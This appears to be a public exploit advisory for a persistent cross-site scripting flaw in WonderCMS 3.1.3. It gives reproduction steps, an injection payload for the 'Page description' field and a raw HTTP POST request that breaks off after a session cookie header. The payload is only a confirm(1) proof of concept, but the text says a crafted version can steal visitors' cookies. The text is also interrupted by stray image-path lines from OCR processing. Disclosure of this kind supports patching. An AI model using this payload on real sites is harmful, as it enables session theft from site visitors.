# Exploit Title: WonderCMS 3.1.3 - 'content' Persistent Cross-Site Scripting
# Date: 20-11-2020
# Exploit Author: Hemant Patidar (HemantSolo)
# Vendor Homepage:
# Version: 3.1.3
# Tested on: Windows 10/Kali Linux
Stored Cross-site scripting(XSS):
Stored XSS, also known as persistent XSS, is the more damaging of the two. It occurs when a malicious script is injected directly into a vulnerable web application. Reflected XSS involves the reflecting of a malicious script off of a web application, onto a user's browser.
Attack vector:
This vulnerability can results attacker to inject the XSS payload in Page description and each time any user will visits the website, the XSS triggers andattacker can able to steal the cookie according to the crafted payload.
Vulnerable Parameters: Page description.
1. Go to the Simple website builder.
2. Put this payload in Page description: "hemantsolo"><img src=x onerror=confirm(1)>"
3. Now go to the website and the XSS will be triggered.
POST /demo/ HTTP/1.1
Connection: close
Content-Length: 196
User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.198 Safari/537.36
DNT: 1
Content-Type: application/x-www-form-urlencoded; charset=UTF-8
Accept: */*
Sec-Fetch-Site: same-origin
Sec-Fetch-Mode: cors
Sec-Fetch-Dest: emptyAccept-Encoding: gzip, deflate
Accept-Language: en-GB,en-US;q=0.9,en;q=0.8,hi;q=0.7,ru;q=0.6
Cookie:PHPSESSID=da4eae35135fd9ce3c413b936e2e5925